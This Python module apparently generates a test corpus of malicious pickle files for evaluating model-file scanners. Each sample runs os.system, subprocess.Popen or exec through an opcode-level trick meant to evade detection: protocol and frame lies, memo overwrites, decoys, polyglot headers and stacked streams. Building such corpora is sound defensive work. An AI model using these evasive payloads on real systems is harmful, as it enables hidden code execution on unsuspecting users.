"""Malicious pickles whose trick is the opcode stream itself: text opcodes, protocols, memo, frames, stack.

Sources named in the table are advisories or papers; where none is named the technique follows from reading
CPython's `Modules/_pickle.c`.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import struct

from .assembler import (
    APPENDS,
    BINPERSID,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEXT_BUFFER,
    NONE,
    OBJ,
    POP,
    POP_MARK,
    PYTHON,
    READONLY_BUFFER,
    REDUCE,
    SETITEM,
    SHELL,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    Op,
    binstring,
    bytearray8,
    call,
    evil,
    frame,
    get,
    global_,
    inst,
    integer,
    line,
    pickle,
    proto,
    put,
    raw,
    shell,
    short_binstring,
    stack_global,
    string_line,
    text,
    text8,
    unicode_line,
    value,
    values,
)
from .sample import Sample, write_bytes, write_fixed

EOP = "arXiv:2508.19774"
HARUYAMA = "https://github.com/protectai/modelscan/issues/338"
SYSTEM0 = global_("os", "system")
SYSTEM = stack_global("os", "system")
QUOTED = string_line(b"'" + SHELL.encode() + b"'")
LINE = unicode_line(SHELL)
CALLED = shell()  # what executes first in the samples that break afterwards
BARE = Op(MARK + LINE + TUPLE + REDUCE)  # arguments and call, protocol 0 opcodes only


def _protocols() -> list[tuple[str, str, bytes, str]]:
    """The same call as every protocol would write it."""
    table = [
        ("protocol_0.pkl", "pickle/protocol-0", SYSTEM0 + put(0) + MARK + LINE + TUPLE + REDUCE + STOP, ""),
        (
            "protocol_1.pkl",
            "pickle/protocol-1",
            pickle(SYSTEM0 + short_binstring(SHELL.encode()) + TUPLE1 + REDUCE, 1),
            "",
        ),
        ("protocol_2.pkl", "pickle/protocol-2", evil(2), ""),
        ("protocol_3.pkl", "pickle/protocol-3", evil(3), ""),
        ("protocol_4.pkl", "pickle/protocol-4", evil(4), ""),
        ("protocol_5.pkl", "pickle/protocol-5", evil(5), ""),
        (
            "posix_name.pkl",
            "pickle/platform-alias",
            pickle(call(stack_global("posix", "system"), SHELL)),
            "CVE-2025-10155",
        ),
    ]
    return [(name, technique, bytes(content), source) for name, technique, content, source in table]


_TEXT_OPCODES = [
    ("inst.pkl", "pickle/inst", inst("os", "system", QUOTED) + STOP, ""),
    ("inst_popen.pkl", "pickle/inst-class", inst("subprocess", "Popen", ["sh", "-c", SHELL]) + STOP, ""),
    ("obj.pkl", "pickle/obj", MARK + SYSTEM0 + QUOTED + OBJ + STOP, "GHSA-mxhj-88fx-4pcv"),
    ("obj_dropped.pkl", "pickle/obj-result-dropped", MARK + SYSTEM0 + QUOTED + OBJ + POP + NONE + STOP, "GHSA-mxhj-88fx-4pcv"),
    ("string_double_quotes.pkl", "pickle/string-quoting", SYSTEM0 + MARK + string_line(b'"' + SHELL.replace('"', "").encode() + b'"') + TUPLE + REDUCE + STOP, ""),
    ("string_escapes.pkl", "pickle/string-escapes", proto(4) + string_line(rb"'\x6f\163'") + string_line(rb"'\x73ys\x74em'") + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("string_operands.pkl", "pickle/string-operands", string_line(b"'os'") + string_line(b"'system'") + STACK_GLOBAL + QUOTED + TUPLE1 + REDUCE + STOP, "GHSA-9gvj-pp9x-gcfr"),
    ("binstring_operands.pkl", "pickle/binstring-operands", binstring(b"os") + short_binstring(b"system") + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("binunicode8_operands.pkl", "pickle/binunicode8-operands", proto(4) + text8("os") + text8("system") + STACK_GLOBAL + text8(SHELL) + TUPLE1 + REDUCE + STOP, ""),
    ("unicode_escapes.pkl", "pickle/unicode-escapes", proto(4) + Op(b"V\\u006f\\u0073\n") + Op(b"V\\U00000073ystem\n") + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("int_hexadecimal.pkl", "pickle/int-base-0", line(b"I", "0x10") + POP + SYSTEM0 + BARE + STOP, "https://huggingface.co/TESTforge42/scanner-bypass-ptzip-int-desync"),
    ("int_octal_space.pkl", "pickle/int-whitespace", line(b"I", " 017") + POP + SYSTEM0 + BARE + STOP, ""),
    ("long_hexadecimal.pkl", "pickle/long-base-0", line(b"L", "0x10L") + POP + SYSTEM0 + BARE + STOP, ""),
    ("long_binary.pkl", "pickle/long-base-2", line(b"L", "0b1_0L") + POP + SYSTEM0 + BARE + STOP, ""),
    ("float_text.pkl", "pickle/float-before-call", EMPTY_DICT + line(b"F", "1.0") + SYSTEM0 + BARE + STOP, "https://github.com/trailofbits/fickling/issues/322"),
    ("float_nan.pkl", "pickle/float-text-oddities", line(b"F", "-nan") + POP + line(b"F", "infinity") + POP + SYSTEM0 + BARE + STOP, ""),
    ("get_with_sign.pkl", "pickle/get-text-oddities", SYSTEM0 + line(b"p", "+0_7") + POP + line(b"g", " 7") + BARE + STOP, ""),
    ("string_non_ascii.pkl", "pickle/string-not-ascii", string_line(b"'\xff\xfe'") + POP + SYSTEM0 + BARE + STOP, ""),
    ("short_binstring_latin1.pkl", "pickle/binstring-not-utf8", short_binstring(b"\xff\xd8\xff") + POP + SYSTEM0 + BARE + STOP, ""),
    ("crlf_global.pkl", "pickle/global-extra-operand", Op(b"cos\nsystem\n") + Op(b"(V" + SHELL.encode() + b"\nt") + REDUCE + Op(b"I01\n") + POP + STOP, ""),
]  # fmt: skip

_FRAMING = [
    ("frame_zero.pkl", "pickle/frame-lie", proto(4) + frame(0) + CALLED + STOP, EOP),
    ("frame_too_short.pkl", "pickle/frame-short", proto(4) + frame(3) + CALLED + STOP, EOP),
    ("frame_too_long_later.pkl", "pickle/frame-beyond-end", proto(4) + CALLED + frame(2**40) + NONE + STOP, EOP),
    ("frame_nested.pkl", "pickle/frame-nested", proto(4) + frame(len(CALLED) + 10) + frame(len(CALLED) + 1) + CALLED + STOP, EOP),
    ("frame_in_protocol_0.pkl", "pickle/frame-without-proto", frame(len(CALLED) + 1) + CALLED + STOP, ""),
    ("proto_missing.pkl", "pickle/proto-missing", CALLED + STOP, ""),
    ("proto_understated.pkl", "pickle/proto-understated", proto(0) + CALLED + STOP, ""),
    ("proto_twice.pkl", "pickle/proto-duplicate", proto(2) + proto(5) + proto(1) + CALLED + STOP, ""),
    ("proto_midstream.pkl", "pickle/proto-midstream", SYSTEM0 + proto(3) + MARK + proto(0) + LINE + TUPLE + proto(4) + REDUCE + STOP, ""),
    ("proto_switches_names.pkl", "pickle/proto-changes-lookup", proto(4) + Op(b"cjoblib.disk\nos.system\n") + proto(0) + BARE + STOP, ""),
    ("header_then_proto.pkl", "pickle/proto-not-first", NONE + POP + evil(4), ""),
]  # fmt: skip

_MEMO = [
    ("memo_overwrite.pkl", "pickle/memo-overwrite", proto(4) + values("torch._utils") + put(0) + values("_rebuild_tensor_v2") + put(1) + text("os") + put(0) + text("system") + put(1) + POP + POP + POP + POP + get(0) + get(1) + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, "https://github.com/mmaitre314/picklescan/issues/22"),
    ("memo_put_memoize_mix.pkl", "pickle/memo-put-memoize-mix", proto(4) + text("os") + put(0) + text("system") + put(1) + text("torch._utils") + MEMOIZE + text("_rebuild_tensor_v2") + MEMOIZE + get(0) + get(1) + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, "https://github.com/mmaitre314/picklescan/issues/14"),
    ("memo_gaps.pkl", "pickle/memo-gaps", proto(4) + text("os") + put(9000) + text("system") + put(77) + POP + POP + get(9000) + get(77) + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("memo_text_opcodes.pkl", "pickle/memo-text-opcodes", unicode_line("os") + line(b"p", "12") + POP + unicode_line("system") + line(b"p", "5") + POP + line(b"g", "12") + line(b"g", "5") + STACK_GLOBAL + BARE + STOP, ""),
    ("memo_function.pkl", "pickle/memo-indirection", proto(4) + SYSTEM + MEMOIZE + POP + text(SHELL) + TUPLE1 + MEMOIZE + POP + get(0) + get(1) + REDUCE + STOP, ""),
    ("memo_decoys.pkl", "pickle/memo-decoys-between", proto(4) + text("os") + MEMOIZE + text("system") + MEMOIZE + POP + POP + values("sklearn", "linear_model", "LinearRegression") + POP + POP + POP + get(0) + get(1) + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("memo_after_dup.pkl", "pickle/memo-of-duplicate", proto(4) + text("os") + DUP + MEMOIZE + POP + POP + text("system") + DUP + put(3) + POP + POP + get(0) + get(3) + STACK_GLOBAL + LINE + TUPLE1 + REDUCE + STOP, ""),
    ("memo_missing_after.pkl", "pickle/memo-missing-key", proto(4) + CALLED + POP + text("os") + MEMOIZE + get(3) + get(0) + STACK_GLOBAL + STOP, "GHSA-9gvj-pp9x-gcfr"),
]  # fmt: skip

_OPERANDS_AFTER = [
    ("operand_int.pkl", "pickle/stack-global-int", proto(4) + CALLED + POP + integer(42) + text("os") + STACK_GLOBAL + STOP, HARUYAMA),
    ("operand_bytes.pkl", "pickle/stack-global-bytes", proto(4) + CALLED + POP + raw(b"os") + text("system") + STACK_GLOBAL + STOP, HARUYAMA),
    ("operand_bytearray.pkl", "pickle/stack-global-bytearray", proto(5) + CALLED + POP + text("os") + bytearray8(b"system") + STACK_GLOBAL + STOP, HARUYAMA),
    ("operand_surrogate.pkl", "pickle/surrogate-operand", proto(4) + CALLED + POP + text("os\udc80") + text("x") + STACK_GLOBAL + STOP, ""),
]  # fmt: skip

_STACK = [
    ("result_popped.pkl", "pickle/result-discarded", pickle(CALLED + POP + value({"weights": [0.5, 0.25]})), "GHSA-m6fh-58r7-x697"),
    ("result_pop_mark.pkl", "pickle/result-dropped-by-pop-mark", pickle(MARK + CALLED + POP_MARK + value({"weights": [1]})), ""),
    ("result_unused_below.pkl", "pickle/stack-leftovers", pickle(CALLED + value({"weights": [1]})), ""),
    ("pop_a_mark.pkl", "pickle/pop-removes-mark", pickle(MARK + POP + MARK + MARK + POP + POP + CALLED), ""),
    ("dup_function.pkl", "pickle/dup-function", pickle(SYSTEM + DUP + text(SHELL) + TUPLE1 + REDUCE), ""),
    ("dup_arguments.pkl", "pickle/dup-arguments", pickle(SYSTEM + text(SHELL) + TUPLE1 + DUP + POP + REDUCE), ""),
    ("marks_in_arguments.pkl", "pickle/mark-juggling", pickle(SYSTEM + MARK + MARK + MARK + POP_MARK + POP_MARK + text(SHELL) + TUPLE + REDUCE), ""),
    ("call_in_dict_key.pkl", "pickle/call-in-dict-key", pickle(EMPTY_DICT + CALLED + value([1.0]) + SETITEM), ""),
    ("call_in_list.pkl", "pickle/call-in-list", pickle(EMPTY_LIST + MARK + values(1, 2) + CALLED + values(3) + APPENDS), ""),
    ("call_in_set.pkl", "pickle/call-in-set", pickle(EMPTY_SET + MARK + CALLED + Op(b"\x90")), ""),
    ("call_in_frozenset.pkl", "pickle/call-in-frozenset", pickle(MARK + CALLED + Op(b"\x91")), ""),
    ("call_in_state.pkl", "pickle/call-in-state", pickle(stack_global("argparse", "Namespace") + EMPTY_TUPLE + Op(b"\x81") + EMPTY_DICT + text("seed") + CALLED + SETITEM + Op(b"b")), ""),
    ("call_in_arguments.pkl", "pickle/call-in-arguments-of-safe-call", pickle(call(stack_global("builtins", "complex"), CALLED)), ""),
    ("call_in_persistent_id.pkl", "pickle/call-in-persistent-id", pickle(CALLED + TUPLE1 + BINPERSID), ""),
    ("call_then_persid.pkl", "pickle/persid-after-call", pickle(CALLED + POP + Op(b"Pweights_0\n")), ""),
    ("buffer_after_call.pkl", "pickle/next-buffer-after-call", pickle(CALLED + POP + NEXT_BUFFER + READONLY_BUFFER, 5), ""),
]  # fmt: skip

_BREAKS = [
    ("breaks_unknown_opcode.pkl", "pickle/breaks-unknown-opcode", pickle(CALLED + Op(b"\xff\xfe")), "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"),
    ("breaks_no_stop.pkl", "pickle/breaks-no-stop", proto(4) + CALLED, "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"),
    ("breaks_truncated_operand.pkl", "pickle/breaks-truncated-operand", proto(4) + CALLED + Op(b"X\xff\x00\x00\x00abc"), EOP),
    ("breaks_underflow.pkl", "pickle/breaks-stack-underflow", pickle(CALLED + POP + POP + POP + TUPLE1), EOP),
    ("breaks_unhashable.pkl", "pickle/breaks-unhashable-key", pickle(EMPTY_DICT + EMPTY_LIST + CALLED + SETITEM), EOP),
    ("breaks_bad_utf8.pkl", "pickle/breaks-bad-utf8", pickle(CALLED + POP + Op(b"\x8c\x02\xff\xff")), EOP),
    ("breaks_bad_protocol.pkl", "pickle/breaks-bad-protocol", pickle(CALLED + POP + proto(200)), EOP),
    ("breaks_missing_module.pkl", "pickle/breaks-missing-module", pickle(CALLED + POP + stack_global("torch_nonexistent", "x")), EOP),
    ("breaks_not_callable.pkl", "pickle/breaks-not-callable", pickle(CALLED + EMPTY_TUPLE + REDUCE), EOP),
    ("breaks_bad_int.pkl", "pickle/breaks-bad-int-text", pickle(CALLED + POP + line(b"I", "twelve")), EOP),
    ("breaks_bad_string.pkl", "pickle/breaks-unquoted-string", pickle(CALLED + POP + string_line(b"unquoted")), EOP),
    ("breaks_no_mark.pkl", "pickle/breaks-no-mark", pickle(CALLED + TUPLE), EOP),
    ("breaks_newline_missing.pkl", "pickle/breaks-missing-newline", proto(2) + CALLED + Op(b"cos"), EOP),
    ("breaks_negative_length.pkl", "pickle/breaks-negative-length", pickle(CALLED + Op(b"T" + struct.pack("<i", -5))), EOP),
    ("breaks_bad_ext.pkl", "pickle/breaks-unregistered-extension", pickle(CALLED + Op(b"\x82\x7f")), EOP),
    ("breaks_huge_claim.pkl", "pickle/breaks-huge-claim", pickle(CALLED + Op(b"\x8e" + struct.pack("<Q", 2**60))), EOP),
]  # fmt: skip


def _padding() -> list[tuple[str, str, bytes, str]]:
    """Bytes before and after: no-op opcodes, other formats' magic that are valid opcodes, and tails."""
    gif = b"GIF89a" + b"\x01\x00\x01"  # BINFLOAT and its eight bytes
    bitmap = b"BM" + b"\x00\x00\x00" + b"\x00" * 0x4D  # BINBYTES of 0x4d bytes
    gguf = b"GGUF\x03\x00\x00\x00\x00"  # BINFLOAT again
    executable = b"MZ\x90"  # BININT2
    table = [
        ("padded_with_noops.pkl", "padding/no-op-opcodes", b"N0" * 200_000 + evil(), ""),
        ("padded_with_bytes.pkl", "padding/large-operand", bytes(raw(b"\x00" * 600_000) + POP) + evil(), ""),
        (
            "padded_with_text.pkl",
            "padding/text-operands",
            b"VThis file holds a scikit-learn model.\n0" * 200 + evil(2),
            "",
        ),
        ("picture.gif", "polyglot/gif", gif + b"0" + evil(), ""),
        ("picture.bmp", "polyglot/bmp", bitmap + b"0" + evil(), ""),
        ("weights.gguf", "polyglot/gguf", gguf + b"0" + evil(), ""),
        ("model.exe.pkl", "polyglot/pe", executable + b"0" + evil(), ""),
        ("junk_after.pkl", "padding/junk-after-stop", evil() + b"\x00" * 4096 + b"not a pickle\n" * 10, ""),
        ("whitespace_after.pkl", "padding/whitespace-after-stop", evil() + b"\r\n \t" * 500, ""),
    ]
    return [(name, technique, bytes(content), source) for name, technique, content, source in table]


def _samples() -> list[Sample]:
    tables = [*_protocols(), *_TEXT_OPCODES, *_FRAMING, *_MEMO, *_OPERANDS_AFTER, *_STACK, *_BREAKS]
    loaders = {"string_non_ascii.pkl": "pickle-latin1", "short_binstring_latin1.pkl": "pickle-latin1"}
    needs = {"proto_switches_names.pkl": ("joblib", "numpy")}
    fixed = [
        Sample(name, technique, True, True, write_fixed(name, content),
               loaders.get(name, "pickle"), needs.get(name, ()), source)
        for name, technique, content, source in tables
    ]  # fmt: skip
    padded = [
        Sample(name, technique, True, True, write_fixed(name, content), "pickle", (), source)
        for name, technique, content, source in _padding()
    ]
    return fixed + padded


def _stacked(name: str, technique: str, *streams: bytes, loader: str = "pickle-repeat", source: str = "") -> Sample:
    return Sample(name, technique, True, True, write_bytes(name, lambda: b"".join(streams)), loader, (), source)


_BENIGN = pickle(value({"weights": [0.1, 0.2], "name": "linear"}))

SAMPLES = (
    *_samples(),
    _stacked("second_stream.pkl", "pickle/stacked-streams", _BENIGN, evil()),
    _stacked("tenth_stream.pkl", "pickle/stacked-streams-deep", *[_BENIGN] * 9, evil(0)),
    _stacked("stream_with_memo_reset.pkl", "pickle/stacked-memo-reset",
             pickle(text("os") + put(0) + text("system") + put(1)),
             pickle(text("math") + put(0) + text("sqrt") + put(1)), evil(2)),
    _stacked("python_only_stream.pkl", "pickle/python-unpickler-only", proto(4) + line(b"F", "1_0.5") + POP, CALLED + STOP,
             loader="pickle-python"),
    _stacked("exec_source.pkl", "pickle/exec", pickle(call(stack_global("builtins", "exec"), PYTHON))),
)  # fmt: skip
